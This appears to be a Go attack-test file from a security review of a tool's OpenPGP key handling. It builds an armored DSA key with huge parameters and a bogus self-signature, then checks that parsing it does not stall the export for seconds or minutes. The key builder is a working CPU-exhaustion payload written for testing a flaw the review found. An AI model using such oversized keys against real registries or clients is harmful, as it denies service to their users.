package export_test

// ATTACK TESTS (atk-upstream review). Each TestAttack* asserts the behaviour a
// user depends on; one that FAILS on the reviewed main is a finding (see the
// review report), one that passes is an attack correctly refused.

import (
	"bytes"
	"crypto/rand"
	"crypto/sha1"
	"encoding/binary"
	"math/big"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/armor"

	"github.com/airgap/airgap/verify"
)

func atkMPI(n *big.Int) []byte {
	b := n.Bytes()
	return append([]byte{byte(n.BitLen() >> 8), byte(n.BitLen())}, b...)
}

func atkPacket(tag byte, body []byte) []byte {
	h := []byte{0xC0 | tag, 0xFF, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(h[2:], uint32(len(body)))
	return append(h, body...)
}

func atkRand(bits int) *big.Int {
	n, _ := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), uint(bits)))
	n.SetBit(n, bits-1, 1)
	n.SetBit(n, 0, 1)
	return n
}

// atkHugeDSAKey is an armored OpenPGP public key whose DSA parameters p and q
// have `bits` bits, with one user ID and a (bogus) v4 self-signature: the
// few kilobytes a registry's download document can carry in
// signing_keys.gpg_public_keys[].ascii_armor.
func atkHugeDSAKey(bits int) string {
	p, q := atkRand(bits), atkRand(bits)
	g, y := atkRand(bits-8), atkRand(bits-8)
	var pk bytes.Buffer
	pk.Write([]byte{4, 0x60, 0, 0, 0, 17})
	for _, n := range []*big.Int{p, q, g, y} {
		pk.Write(atkMPI(n))
	}
	body := pk.Bytes()
	h := sha1.New()
	h.Write([]byte{0x99, byte(len(body) >> 8), byte(len(body))})
	h.Write(body)
	keyID := h.Sum(nil)[12:20]
	var sig bytes.Buffer
	hashed := []byte{5, 2, 0x60, 0, 0, 1} // creation time
	sig.Write([]byte{4, 0x13, 17, 8, 0, byte(len(hashed))})
	sig.Write(hashed)
	sig.Write([]byte{0, 10, 9, 16})
	sig.Write(keyID)
	sig.Write([]byte{0xAB, 0xCD}) // hash tag: not checked for v4
	sig.Write(atkMPI(atkRand(bits - 8)))
	sig.Write(atkMPI(new(big.Int).Sub(q, big.NewInt(1)))) // s = q-1: always invertible, both exponents full size
	var raw []byte
	raw = append(raw, atkPacket(6, body)...)
	raw = append(raw, atkPacket(13, []byte("attacker <a@evil.example>"))...)
	raw = append(raw, atkPacket(2, sig.Bytes())...)
	var out bytes.Buffer
	w, _ := armor.Encode(&out, "PGP PUBLIC KEY BLOCK", nil)
	w.Write(raw)
	w.Close()
	return out.String()
}

// FINDING: signing keys from the registry are parsed (and their
// self-signatures verified) with no bound on the key's size. A DSA key with
// 16384-bit parameters (a 17 KiB armored string) costs seconds of CPU; the
// largest an MPI allows (65535 bits, ~35 KiB) costs minutes per key, in a
// computation that ignores the context, so Ctrl-C does not stop the export.
// Honest publisher keys are RSA 2048/4096 or Ed25519 and parse in
// milliseconds.
func TestAttackHugeDSASigningKeyCPU(t *testing.T) {
	key := atkHugeDSAKey(16384)
	start := time.Now()
	_, err := verify.ReadKeyring(strings.NewReader(key))
	el := time.Since(start)
	t.Logf("armored key %d bytes: ReadKeyring took %s (err: %v)", len(key), el.Round(time.Millisecond), err)
	if el > time.Second {
		t.Errorf("a %d-byte registry-supplied key cost %s of CPU to refuse", len(key), el.Round(time.Millisecond))
	}
}
